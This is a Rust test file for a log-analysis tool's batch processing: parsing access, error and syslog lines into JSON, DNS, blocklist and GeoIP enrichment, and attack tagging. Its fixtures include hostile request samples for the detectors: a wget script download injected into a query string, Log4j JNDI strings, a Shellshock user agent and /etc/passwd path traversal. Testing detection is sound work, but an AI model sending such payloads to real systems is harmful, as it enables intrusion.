//! The batch flow and its JSON encoding, against a counting test double of the lookups.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde_json::Value as Json;

use super::*;
use crate::settings::{Setting, SettingValue};

#[path = "batch_ecs_tests.rs"]
mod ecs;

/// Answers like a small world and records every call.
#[derive(Default)]
struct Double {
    reverse_calls: Vec<Vec<IpAddr>>,
    dnsbl_calls: Vec<(String, Vec<IpAddr>)>,
    geoip_calls: Vec<Vec<IpAddr>>,
    short_answers: bool,
}

fn v4(a: u8, b: u8, c: u8, d: u8) -> IpAddr {
    IpAddr::V4(std::net::Ipv4Addr::new(a, b, c, d))
}

impl Lookups for Double {
    fn reverse(&mut self, ips: &[IpAddr]) -> Vec<PtrOutcome> {
        self.reverse_calls.push(ips.to_vec());
        if self.short_answers {
            return Vec::new();
        }
        ips.iter()
            .map(|ip| match ip {
                ip if *ip == v4(198, 51, 100, 9) => {
                    PtrOutcome::Found("scanner-9.census.shodan.io".into())
                }
                ip if *ip == v4(203, 0, 113, 1) => PtrOutcome::Failed(LookupError::Timeout),
                IpAddr::V6(_) => PtrOutcome::Found("v6.example.net".into()),
                _ => PtrOutcome::NotFound,
            })
            .collect()
    }
    fn dnsbl(&mut self, zone: &str, ips: &[IpAddr]) -> Vec<DnsblOutcome> {
        self.dnsbl_calls.push((zone.to_string(), ips.to_vec()));
        ips.iter()
            .map(|ip| match ip {
                ip if *ip == v4(198, 51, 100, 9) => DnsblOutcome::Listed {
                    answers: vec![Ipv4Addr::new(127, 0, 0, 4)],
                    reason: Some("see https://example.test".into()),
                },
                ip if *ip == v4(192, 0, 2, 38) => DnsblOutcome::Listed {
                    answers: vec![Ipv4Addr::new(127, 255, 255, 254)],
                    reason: None,
                },
                _ => DnsblOutcome::NotListed,
            })
            .collect()
    }
    fn geoip(&mut self, ips: &[IpAddr]) -> Vec<Option<GeoRecord>> {
        self.geoip_calls.push(ips.to_vec());
        ips.iter()
            .map(|ip| {
                (*ip == v4(198, 51, 100, 9)).then(|| GeoRecord {
                    country_code: Some("NL".into()),
                    country_name: Some("Netherlands".into()),
                    subdivision: None,
                    city: Some("Amsterdam".into()),
                    latitude: Some(52.37),
                    longitude: Some(4.89),
                    accuracy_radius: Some(20),
                    time_zone: None,
                    asn: Some(64500),
                    as_org: Some("Example AS".into()),
                })
            })
            .collect()
    }
}

fn lines() -> Vec<String> {
    [
        r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 404 232 "-" "Python-urllib/3.8" "-" 443 198.51.100.77"#,
        r#"198.51.100.9 - - [19/Jul/2022:13:23:21 +0200] "GET / HTTP/1.1" 200 3167 "-" "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)" "-""#,
        "garbage line",
        r#"192.0.2.38 - - [19/Jul/2022:13:23:22 +0200] "GET /x HTTP/1.1" 404 232 "-" "-" "-" 443"#,
        r#"2001:db8:1:c84::2de - - [18/Jul/2022:03:31:53 +0200] "GET /favicon.ico HTTP/1.1" 404 232 "-" "zgrab/0.x" "-" 443 [2001:db8:60::face]"#,
        r#"203.0.113.1 - - [19/Jul/2022:13:23:23 +0200] "GET / HTTP/1.1" 200 1 "-" "-""#,
        r#"198.51.100.9 - - [19/Jul/2022:13:23:24 +0200] "GET /robots.txt HTTP/1.1" 200 1 "-" "-" "-" 80"#,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

fn zones() -> Filter {
    Filter::new(&[
        Setting::new(
            "dnsbl-zones",
            SettingValue::Texts(vec!["zen.spamhaus.org".into(), "bl.example".into()]),
        ),
        Setting::new(
            "dnsbl-codes.bl.example",
            SettingValue::Table(vec![("127.0.0.4".into(), "exploited".into())]),
        ),
    ])
    .unwrap()
}

/// Runs a batch of `lines` and parses its JSON Lines.
fn run(
    filter: &Filter,
    d: &mut impl Lookups,
    first: u64,
    source: Option<&str>,
    lines: &[String],
) -> (Vec<Json>, BatchStats, String) {
    let mut data = Vec::new();
    let mut ends = Vec::new();
    for l in lines {
        data.extend_from_slice(l.as_bytes());
        ends.push(data.len() as u32);
    }
    let mut out = Vec::new();
    let stats = process(
        filter,
        d,
        BatchIn {
            first_line: first,
            source,
            data: &data,
            ends: &ends,
            parts: &[],
        },
        &mut out,
    );
    let text = String::from_utf8(out).unwrap();
    assert!(text.ends_with('\n') || lines.is_empty());
    let records = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    (records, stats, text)
}

#[test]
fn one_call_per_import_with_distinct_addresses() {
    let mut d = Double::default();
    let (out, stats, _) = run(&zones(), &mut d, 10, None, &lines());
    assert_eq!(out.len(), 7);
    let unique = vec![
        v4(192, 0, 2, 38),
        v4(198, 51, 100, 9),
        IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 1, 0xc84, 0, 0, 0, 0x2de)),
        v4(203, 0, 113, 1),
    ];
    assert_eq!(d.reverse_calls, vec![unique.clone()]);
    assert_eq!(d.geoip_calls, vec![unique.clone()]);
    assert_eq!(
        d.dnsbl_calls,
        vec![
            ("zen.spamhaus.org".to_string(), unique.clone()),
            ("bl.example".to_string(), unique.clone())
        ]
    );
    assert_eq!(
        stats,
        BatchStats {
            parsed: 6,
            errors: 1,
            invalid_utf8: 0,
            clients: unique
        }
    );
}

#[test]
fn records_are_in_order_with_enrichments() {
    let (out, _, _) = run(&zones(), &mut Double::default(), 10, None, &lines());
    let numbers: Vec<u64> = out.iter().map(|r| r["line"].as_u64().unwrap()).collect();
    assert_eq!(numbers, (10..17).collect::<Vec<_>>());

    assert_eq!(
        out[2],
        serde_json::json!({"line": 12, "error": {"column": 1, "reason": "invalid client address \"garbage\""}, "raw": "garbage line"})
    );

    let first = &out[0];
    assert_eq!(first["time"], "2022-07-19T11:23:20Z");
    assert_eq!(first["time_offset"], "+0200");
    assert_eq!(
        first["dns"],
        serde_json::json!({"name": null, "status": "not_found"})
    );
    let zen = &first["dnsbl"][0];
    assert_eq!(
        zen["listed"], false,
        "127.255.255.254 must not count as a listing"
    );
    assert!(zen["error"].as_str().unwrap().contains("public"));
    assert!(first["scanner"].is_null());

    let scanner = &out[1];
    assert_eq!(scanner["dns"]["name"], "scanner-9.census.shodan.io");
    assert_eq!(
        scanner["scanner"],
        serde_json::json!({"sources": ["dns", "ua"], "matched": ["shodan.io", "censys.io"]})
    );
    assert_eq!(scanner["dnsbl"][0]["listed"], true);
    assert!(
        scanner["dnsbl"][0]["meanings"][0]
            .as_str()
            .unwrap()
            .starts_with("XBL")
    );
    assert_eq!(scanner["dnsbl"][0]["reason"], "see https://example.test");
    assert_eq!(
        scanner["dnsbl"][1]["meanings"],
        serde_json::json!(["exploited"])
    );
    assert_eq!(
        scanner["geo"],
        serde_json::json!({"country_code": "NL", "country": "Netherlands", "subdivision": null,
            "city": "Amsterdam", "lat": 52.37, "lon": 4.89, "accuracy_radius": 20,
            "time_zone": null, "asn": 64500, "as_org": "Example AS"})
    );

    // The same client later in the batch shares the enrichment; UA evidence is per line.
    let again = &out[6];
    assert_eq!(again["geo"], scanner["geo"]);
    assert_eq!(again["dnsbl"], scanner["dnsbl"]);
    assert_eq!(again["scanner"]["sources"], serde_json::json!(["dns"]));

    let timeout = &out[5];
    assert_eq!(
        timeout["dns"],
        serde_json::json!({"name": null, "status": "timeout", "error": "timeout"})
    );
    assert!(timeout["geo"].is_null());
}

#[test]
fn the_encoding_is_canonical_bytes() {
    // Key order, no spaces, null for absent values: the exact bytes every host writes.
    let lines = vec![
        r#"192.0.2.38 - alice [19/Jul/2022:13:23:20 +0200] "GET /a?b=c HTTP/1.1" 404 232 "http://r.example/" "Python-urllib/3.8" "203.0.113.5, 198.51.100.2" 443 [2001:db8::face]"#.to_string(),
        "bad".to_string(),
    ];
    let filter = Filter::new(&[Setting::new("geoip", SettingValue::Flag(false))]).unwrap();
    let (_, _, text) = run(&filter, &mut Double::default(), 1, Some("a.log"), &lines);
    let want = concat!(
        r#"{"file":"a.log","line":1,"ip":"192.0.2.38","user":"alice","time":"2022-07-19T11:23:20Z","time_offset":"+0200","#,
        r#""method":"GET","target":"/a?b=c","protocol":"HTTP/1.1","request":"GET /a?b=c HTTP/1.1","status":404,"bytes":232,"#,
        r#""referer":"http://r.example/","user_agent":"Python-urllib/3.8","forwarded":["203.0.113.5","198.51.100.2"],"#,
        r#""server_port":443,"host":"2001:db8::face","dns":{"name":null,"status":"not_found"},"dnsbl":[],"geo":null,"scanner":null,"attacks":[]}"#,
        "\n",
        r#"{"file":"a.log","line":2,"error":{"column":1,"reason":"invalid client address \"bad\""},"raw":"bad"}"#,
        "\n",
    );
    assert_eq!(text, want);
}

#[test]
fn invalid_utf8_is_decoded_lossily_and_flagged() {
    let mut data = br#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET /"#.to_vec();
    data.extend_from_slice(b"\xff\xfe");
    data.extend_from_slice(br#" HTTP/1.1" 200 1 "-" "-""#);
    let end = data.len() as u32;
    data.extend_from_slice(b"\xff");
    let ends = [end, end + 1];
    let mut out = Vec::new();
    let filter = Filter::new(&[]).unwrap();
    let batch = BatchIn {
        first_line: 1,
        source: None,
        data: &data,
        ends: &ends,
        parts: &[],
    };
    let stats = process(&filter, &mut NoLookupsForTest, batch, &mut out);
    assert_eq!((stats.parsed, stats.errors, stats.invalid_utf8), (1, 1, 2));
    let text = String::from_utf8(out).unwrap();
    let recs: Vec<Json> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(recs[0]["target"], "/\u{fffd}\u{fffd}");
    assert_eq!(recs[0]["invalid_utf8"], true);
    assert_eq!(recs[1]["raw"], "\u{fffd}");
    assert_eq!(recs[1]["invalid_utf8"], true);
}

/// Lookups that find nothing and record nothing.
struct NoLookupsForTest;

impl Lookups for NoLookupsForTest {
    fn reverse(&mut self, ips: &[IpAddr]) -> Vec<PtrOutcome> {
        ips.iter().map(|_| PtrOutcome::NotFound).collect()
    }
    fn dnsbl(&mut self, _: &str, ips: &[IpAddr]) -> Vec<DnsblOutcome> {
        ips.iter().map(|_| DnsblOutcome::NotListed).collect()
    }
    fn geoip(&mut self, ips: &[IpAddr]) -> Vec<Option<GeoRecord>> {
        ips.iter().map(|_| None).collect()
    }
}

#[test]
fn bad_offsets_are_clamped_not_a_panic() {
    let data = b"abc";
    let ends = [2, 1, 10];
    let mut out = Vec::new();
    let filter = Filter::new(&[]).unwrap();
    let batch = BatchIn {
        first_line: 1,
        source: None,
        data,
        ends: &ends,
        parts: &[],
    };
    let stats = process(&filter, &mut NoLookupsForTest, batch, &mut out);
    assert_eq!(stats.errors, 3);
    assert_eq!(String::from_utf8(out).unwrap().lines().count(), 3);
}

#[test]
fn a_first_line_number_near_u64_max_wraps_not_a_panic() {
    // Found by the fuzz target `batch` (mode bit 6): `first_line + i` overflowed.
    let lines: Vec<String> = [
        r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1"#,
        "x",
        "x",
    ]
    .map(String::from)
    .to_vec();
    let filter = Filter::new(&[]).unwrap();
    let (records, stats, _) = run(&filter, &mut NoLookupsForTest, u64::MAX - 1, None, &lines);
    assert_eq!((stats.parsed, stats.errors), (1, 2));
    let numbers: Vec<u64> = records
        .iter()
        .map(|r| r["line"].as_u64().unwrap())
        .collect();
    assert_eq!(numbers, [u64::MAX - 1, u64::MAX, 0]);
}

#[test]
fn disabled_imports_are_not_called() {
    let filter = Filter::new(&[
        Setting::new("reverse-dns", SettingValue::Flag(false)),
        Setting::new("geoip", SettingValue::Flag(false)),
    ])
    .unwrap();
    let mut d = Double::default();
    let (out, _, _) = run(&filter, &mut d, 1, None, &lines());
    assert!(d.reverse_calls.is_empty() && d.geoip_calls.is_empty() && d.dnsbl_calls.is_empty());
    let rec = &out[1];
    assert!(rec["dns"].is_null() && rec["geo"].is_null());
    assert_eq!(rec["dnsbl"], serde_json::json!([]));
    assert_eq!(rec["scanner"]["sources"], serde_json::json!(["ua"]));
}

#[test]
fn no_calls_for_a_batch_without_valid_lines() {
    let mut d = Double::default();
    let (out, stats, _) = run(&zones(), &mut d, 1, None, &["x".into(), String::new()]);
    assert_eq!(out.len(), 2);
    assert!(stats.clients.is_empty());
    assert!(d.reverse_calls.is_empty() && d.geoip_calls.is_empty() && d.dnsbl_calls.is_empty());
}

#[test]
fn a_host_answering_the_wrong_count_fails_lookups_not_the_batch() {
    let mut d = Double {
        short_answers: true,
        ..Double::default()
    };
    let (out, _, _) = run(&zones(), &mut d, 1, None, &lines());
    let dns = &out[0]["dns"];
    assert_eq!(dns["status"], "failed");
    assert!(
        dns["error"]
            .as_str()
            .unwrap()
            .contains("returned 0 results for 4 addresses")
    );
}

#[test]
fn attack_tags_per_field_with_evidence_and_on_unparsed_lines() {
    let lines = vec![
        r#"203.0.113.137 - - [19/Jul/2022:05:11:59 +0200] "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh HTTP/1.1" 400 157 "${jndi:ldap://x/a}" "${${lower:j}ndi:ldap://192.0.2.1/a}" "-" 80"#.to_string(),
        r#"192.0.2.1 - - [19/Jul/2022:05:11:59 +0200] "\x16\x03\x01\x00\xF1" 400 157 "-" "${${lower:j}ndi:ldap://192.0.2.1/a}""#.to_string(),
        r#"\x16\x03\x01 not a log line"#.to_string(),
        "plain garbage".to_string(),
    ];
    let (out, _, _) = run(
        &Filter::new(&[]).unwrap(),
        &mut NoLookupsForTest,
        1,
        None,
        &lines,
    );
    assert_eq!(
        out[0]["attacks"],
        serde_json::json!([
            {"rule": "shell-download", "field": "request", "match": "wget http://192.0.2.33/x.sh"},
            {"rule": "log4j-jndi", "field": "user_agent", "match": "${${lower:j}ndi:ldap://192.0.2.1/a}"},
            {"rule": "log4j-jndi", "field": "referer", "match": "${jndi:ldap://x/a}"},
        ])
    );
    // The same User-Agent again (memoized), after a request hit.
    assert_eq!(out[1]["attacks"][0]["rule"], "tls-handshake");
    assert_eq!(out[1]["attacks"][1]["field"], "user_agent");
    assert_eq!(
        out[2]["attacks"],
        serde_json::json!([{"rule": "tls-handshake", "field": "raw", "match": "\u{16}\u{3}\u{1}"}])
    );
    assert!(
        out[3].get("attacks").is_none(),
        "no empty list on error records"
    );
    let off = Filter::new(&[Setting::new("attacks", SettingValue::Flag(false))]).unwrap();
    let (out, _, _) = run(&off, &mut NoLookupsForTest, 1, None, &lines);
    assert!(out[0].get("attacks").is_none() && out[2].get("attacks").is_none());
}

#[test]
fn custom_format_extra_keys_and_lines_without_a_client() {
    let filter = Filter::new(&[Setting::new(
        "log-format",
        SettingValue::Text(
            r#"$remote_addr [$time_local] "$request" $status $request_time $upstream_response_time "$http_user_agent" $ssl_protocol"#
                .into(),
        ),
    )])
    .unwrap();
    let lines = vec![
        r#"unix: [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 0.005 - "ua" TLSv1.3"#.to_string(),
        r#"10.0.0.2, 85.181.35.98 [19/Jul/2022:13:23:20 +0200] "GET /.env HTTP/1.1" 404 0.010 0.009, 0.001 "-" -"#.to_string(),
    ];
    let mut d = Double::default();
    let (out, stats, text) = run(&filter, &mut d, 1, None, &lines);
    assert_eq!(
        stats.clients,
        vec![v4(85, 181, 35, 98)],
        "unix: is not looked up"
    );
    assert_eq!(d.reverse_calls, vec![vec![v4(85, 181, 35, 98)]]);
    let unix = &out[0];
    assert_eq!(unix["ip"], "unix:");
    assert!(unix["dns"].is_null() && unix["geo"].is_null());
    assert_eq!(unix["request_time"], 0.005);
    assert!(unix.get("upstream_response_time").is_none());
    assert_eq!(
        unix["extra"],
        serde_json::json!({"ssl_protocol": "TLSv1.3"})
    );
    let chained = &out[1];
    assert_eq!(chained["ip"], "85.181.35.98");
    assert_eq!(
        chained["forwarded"],
        serde_json::json!(["10.0.0.2", "85.181.35.98"])
    );
    assert_eq!(chained["upstream_response_time"], "0.009, 0.001");
    assert_eq!(chained["extra"], serde_json::json!({"ssl_protocol": null}));
    assert_eq!(chained["attacks"][0]["rule"], "dotenv");
    assert!(
        text.contains(r#""host":null,"request_time":0.005,"extra":{"ssl_protocol":"TLSv1.3"},"dns":null,"dnsbl":[],"geo":null,"scanner":null,"attacks":[]}"#),
        "{text}"
    );
}

#[test]
fn a_target_rule_and_a_replaced_rule_apply_in_the_batch() {
    let filter = Filter::new(&[
        Setting::new("attack-defaults", SettingValue::Flag(false)),
        Setting::new(
            "attack-rule.admin",
            SettingValue::Table(vec![
                ("pattern".into(), "^/admin".into()),
                ("fields".into(), "target".into()),
            ]),
        ),
    ])
    .unwrap();
    let lines = vec![
        r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET /ADMIN/x HTTP/1.1" 200 1"#.to_string(),
        r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET /.env HTTP/1.1" 200 1"#.to_string(),
    ];
    let (out, _, _) = run(&filter, &mut NoLookupsForTest, 1, None, &lines);
    assert_eq!(
        out[0]["attacks"],
        serde_json::json!([{"rule": "admin", "field": "target", "match": "/ADMIN"}])
    );
    assert_eq!(
        out[1]["attacks"],
        serde_json::json!([]),
        "built-ins dropped"
    );
}

#[test]
fn tags_are_the_same_when_the_request_memo_gives_up() {
    // 600 distinct requests: after 256 the memo stops (no request repeats), and tagging
    // goes on without it.
    let lines: Vec<String> = (0..600)
        .map(|i| {
            let target = if i % 3 == 0 {
                format!("/.env?{i}")
            } else {
                format!("/p{i}")
            };
            format!(r#"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] "GET {target} HTTP/1.1" 200 1"#)
        })
        .collect();
    let (out, _, _) = run(
        &Filter::new(&[]).unwrap(),
        &mut NoLookupsForTest,
        1,
        None,
        &lines,
    );
    for (i, rec) in out.iter().enumerate() {
        let want = if i % 3 == 0 { 1 } else { 0 };
        assert_eq!(rec["attacks"].as_array().unwrap().len(), want, "line {i}");
    }
}

#[test]
fn a_remembered_value_is_tagged_as_on_first_sight() {
    // Requests, Referers and User-Agents repeat (with and without hits, in mixed case
    // and encodings): each line's attacks are those it gets alone in a batch.
    let requests = [
        "GET /.env HTTP/1.1",
        "GET / HTTP/1.1",
        "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.0",
    ];
    let referers = ["-", "${jndi:ldap://x/a}", "https://example.com/"];
    let agents = ["curl/8.0", "() { :; }; /bin/bash -c id", "Mozilla/5.0"];
    let lines: Vec<String> = (0..60)
        .map(|i| {
            format!(
                r#"192.0.2.{} - - [19/Jul/2022:13:23:20 +0200] "{}" 200 1 "{}" "{}""#,
                i % 7,
                requests[i % 3],
                referers[i / 3 % 3],
                agents[i / 9 % 3]
            )
        })
        .collect();
    let filter = Filter::new(&[]).unwrap();
    let (together, _, _) = run(&filter, &mut NoLookupsForTest, 1, None, &lines);
    let mut hits = 0;
    for (i, line) in lines.iter().enumerate() {
        let (alone, _, _) = run(
            &filter,
            &mut NoLookupsForTest,
            1 + i as u64,
            None,
            std::slice::from_ref(line),
        );
        assert_eq!(
            together[i]["attacks"], alone[0]["attacks"],
            "line {i}: {line}"
        );
        hits += alone[0]["attacks"].as_array().unwrap().len();
    }
    assert!(hits >= 60, "{hits} hits: the test needs values with hits");
}

#[test]
fn parts_give_the_bytes_of_each_input_alone_with_one_call_per_import() {
    let lines = lines();
    let (a, rest) = lines.split_at(2);
    let (b, c) = rest.split_at(1);
    // Each input as a batch of its own: the bytes a batch of parts must give.
    let mut alone = String::new();
    let mut d = Double::default();
    for (input, first, name) in [(a, 1, Some("logs.a")), (b, 7, None), (c, 1, Some("logs.c"))] {
        alone.push_str(&run(&zones(), &mut d, first, name, input).2);
    }
    let mut data = Vec::new();
    let mut ends = Vec::new();
    for l in &lines {
        data.extend_from_slice(l.as_bytes());
        ends.push(data.len() as u32);
    }
    let part = |lines: usize, first_line, source: Option<&str>| Part {
        lines: lines as u32,
        first_line,
        source: source.map(str::to_owned),
    };
    let parts = [
        part(a.len(), 1, Some("logs.a")),
        part(0, 99, Some("empty")),
        part(b.len(), 7, None),
    ];
    let mut d = Double::default();
    let mut out = Vec::new();
    let batch = BatchIn {
        // The lines past the parts' total are the batch's own.
        first_line: 1,
        source: Some("logs.c"),
        data: &data,
        ends: &ends,
        parts: &parts,
    };
    let stats = process(&zones(), &mut d, batch, &mut out);
    assert_eq!(String::from_utf8(out).unwrap(), alone);
    assert_eq!(stats.parsed + stats.errors, lines.len() as u32);
    assert_eq!(
        d.reverse_calls.len(),
        1,
        "one reverse call for the whole batch"
    );
    assert_eq!(d.reverse_calls[0].len(), stats.clients.len());
}

#[test]
fn error_log_records_have_their_own_keys_lookups_and_attack_tags() {
    let lines = vec![
        r#"2023/09/08 13:50:28 [error] 7164#7164: *20 open() "/srv/www/../../etc/passwd" failed (2: No such file or directory), client: 198.51.100.9, server: example.org, request: "GET /../../etc/passwd HTTP/1.1", host: "example.org""#.to_string(),
        "[Wed Oct 11 14:32:52.123456 2023] [core:error] [pid 35708:tid 4328636416] [client 198.51.100.9:52104] AH00126: Invalid URI in request GET /x HTTP/1.1, referer: http://a.test/".to_string(),
    ];
    let mut d = Double::default();
    let (out, stats, text) = run(&zones(), &mut d, 1, None, &lines);
    assert_eq!((stats.parsed, stats.errors, stats.clients.len()), (2, 0, 1));
    assert_eq!(d.reverse_calls, [vec![v4(198, 51, 100, 9)]]);
    let first = text.lines().next().unwrap();
    assert!(
        first.starts_with(r#"{"line":1,"log_type":"error","ip":"198.51.100.9","client_port":null,"time":"2023-09-08T13:50:28Z","level":"error","module":null,"pid":7164,"tid":7164,"connection":20,"code":null,"os_error":null,"source_file":null,"message":"open() \"/srv/www/../../etc/passwd\" failed (2: No such file or directory)","server":"example.org","method":"GET","target":"/../../etc/passwd","protocol":"HTTP/1.1","request":"GET /../../etc/passwd HTTP/1.1","upstream":null,"host":"example.org","referrer":null,"dns":{"name":"scanner-9.census.shodan.io","status":"found"},"#),
        "{first}"
    );
    assert_eq!(out[0]["scanner"]["sources"], serde_json::json!(["dns"]));
    let fields: Vec<&str> = out[0]["attacks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        ["request", "request", "message", "message"],
        "{}",
        out[0]["attacks"]
    );
    assert_eq!(out[1]["code"], "AH00126");
    assert_eq!(out[1]["client_port"], 52104);
    assert_eq!(out[1]["referrer"], "http://a.test/");
    assert_eq!(out[1]["dnsbl"][0]["listed"], true);
}

#[test]
fn a_syslog_header_is_its_own_key_before_extra_on_both_record_shapes() {
    let lines = vec![
        r#"<190>Jul  8 11:07:07 web-1 nginx[2869]: 198.51.100.7 - - [08/Jul/2023:11:07:07 +0000] "GET /x HTTP/1.1" 404 5 "-" "curl/8.0" 0.005"#.to_string(),
        "<187>1 2023-07-08T11:07:07Z web-1 nginx 2869 - - 2023/07/08 11:07:07 [error] 2869#2869: *1 x, client: 198.51.100.7, server: a.test".to_string(),
    ];
    let (out, stats, text) = run(
        &Filter::new(&[]).unwrap(),
        &mut NoLookupsForTest,
        1,
        None,
        &lines,
    );
    assert_eq!(stats.errors, 0, "{text}");
    assert!(
        text.contains(r#""host":null,"syslog":{"host":"web-1","app":"nginx","pid":2869,"facility":"local7","severity":"info","time":"Jul  8 11:07:07"},"extra":{"trailing_1":"0.005"},"#),
        "{text}"
    );
    assert_eq!(out[1]["log_type"], "error");
    assert_eq!(out[1]["syslog"]["severity"], "err");
    assert_eq!(out[1]["server"], "a.test");
}

#[test]
fn default_offset_moves_local_times_only() {
    let lines = vec![
        r#"198.51.100.7 - - [27/Jun/2013:11:55:44] "GET / HTTP/1.1" 200 1"#.to_string(),
        "2023/09/08 13:50:28 [notice] 1#1: start worker processes".to_string(),
        r#"198.51.100.7 - - [27/Jun/2013:11:55:44 +0000] "GET / HTTP/1.1" 200 1"#.to_string(),
        r#"198.51.100.7 - - [27/Jun/2013:11:55:44 GMT] "GET / HTTP/1.1" 200 1"#.to_string(),
    ];
    let times = |offset: &str| {
        let f = Filter::new(&[Setting::new(
            "default-offset",
            SettingValue::Text(offset.into()),
        )])
        .unwrap();
        let (out, _, _) = run(&f, &mut NoLookupsForTest, 1, None, &lines);
        out.iter()
            .map(|r| {
                (
                    r["time"].as_str().unwrap().to_owned(),
                    r["time_offset"].clone(),
                )
            })
            .collect::<Vec<_>>()
    };
    let utc = times("");
    assert_eq!(utc[0].0, "2013-06-27T11:55:44Z");
    assert_eq!(utc, times("UTC"));
    let plus2 = times("+02:00");
    assert_eq!(plus2, times("+0200"));
    assert_eq!(plus2[0].0, "2013-06-27T09:55:44Z");
    assert_eq!(plus2[1].0, "2023-09-08T11:50:28Z");
    assert_eq!(plus2[0].1, Json::Null, "the log still did not say");
    // A line with its own zone keeps it.
    assert_eq!((&plus2[2], &plus2[3]), (&utc[2], &utc[3]));
    assert_eq!(times("-05:30")[0].0, "2013-06-27T17:25:44Z");
    let bad = Filter::new(&[Setting::new(
        "default-offset",
        SettingValue::Text("CEST".into()),
    )]);
    assert_eq!(bad.unwrap_err().field, "default-offset");
}
